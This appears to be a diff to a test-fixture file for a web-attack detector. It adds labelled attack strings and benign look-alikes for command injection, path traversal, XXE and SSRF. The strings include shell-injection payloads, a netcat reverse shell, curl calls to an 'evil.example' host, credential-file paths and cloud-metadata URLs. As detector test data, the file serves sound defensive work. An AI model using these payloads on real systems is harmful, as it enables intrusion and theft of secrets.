@@ -27,6 +27,17 @@ const examples: Readonly<
   },
   cmdi: {
     attacks: [
+      'x;for i in 1 2; do id; done',
+      'x;if id; then sleep 5; fi',
+      '; Get-ChildItem env:',
+      'x;$env:PATH',
+      '& %COMSPEC% /c dir',
+      "for /f %i in ('dir') do echo %i",
+      'x;id 2>&1',
+      'bash<<<id',
+      'x| reg query "HKLM\\\\SYSTEM"',
+      'ping 10.9.8.7',
+      'x&curl 10.9.8.7/a',
       '; cat /etc/hostname',
       '| nc 10.9.8.7 4444 -e /bin/sh',
       '$(curl http://evil.example/x)',
@@ -40,6 +51,11 @@ const examples: Readonly<
       'cmd.exe /c dir',
     ],
     near: [
+      'if you can; then call',
+      'I cleaned it; done',
+      'new-style; get-together',
+      'wait -- what',
+      'rest & sleep well',
       'salt & pepper; then stir',
       'time out; more of the same',
       'Tom | Dick | Harry',
@@ -51,6 +67,9 @@ const examples: Readonly<
   },
   traversal: {
     attacks: [
+      '..%ff/',
+      '.aws/credentials',
+      '%c0%ae',
       '../../../../srv/secret.txt',
       '..\\..\\boot.ini',
       '%2e%2e%2f%2e%2e%2fetc%2fgroup',
@@ -63,6 +82,8 @@ const examples: Readonly<
       '/static/..;/manager/html',
     ],
     near: [
+      'wait... / or go',
+      'and so on../',
       'a/b/c.txt',
       'v1..v2',
       'wait...',
@@ -105,11 +126,22 @@ const examples: Readonly<
   },
   xxe: {
     attacks: [
+      '+ADwAIQ-DOCTYPE a+AFs +ADwAIQ-ENTITY b SYSTEM +ACI-c+ACI +AD4AXQA+',
+      '<a b="&c;"/>',
+      '%a;%b;',
+      '<room><bed>2</bed></room>',
       '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/hosts">]><a>&b;</a>',
       '<!ENTITY % c SYSTEM "http://evil.example/d">',
       '<x xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="y"/></x>',
     ],
-    near: ['<?xml version="1.0"?><order><id>7</id></order>', 'Q&A; then lunch', '<!doctype html>'],
+    near: [
+      '<p>See <b>below</b></p>',
+      '<none>',
+      'A+AB-negative',
+      '<?xml version="1.0"?><order><id>7</id></order>',
+      'Q&A; then lunch',
+      '<!doctype html>',
+    ],
   },
   xss: {
     attacks: [
@@ -152,6 +184,12 @@ const examples: Readonly<
   },
   ssrf: {
     attacks: [
+      '/http://127.0.0.1/',
+      'x=gopher://localhost:25/_a',
+      'http://127.0.0.1@h.example/',
+      'http://h.example;http://127.0.0.1/',
+      'https://a.example/?to=http://169.254.0.9/',
+      '0x7f.0.0.1/admin',
       'http://169.254.169.254/latest/meta-data/',
       'http://127.0.0.1:6379/',
       'http://0x7f.0.0.1/',
@@ -161,6 +199,10 @@ const examples: Readonly<
       'http://10.0.0.1.nip.io/',
     ],
     near: [
+      'https://a.example/?to=https://b.example/',
+      'version 10.0.1/arm64',
+      '192.168.0.1/24',
+      'really, http? yes',
       'https://example.com/path?x=1',
       'http://93.184.216.34/',
       'mail me at a@b.example',
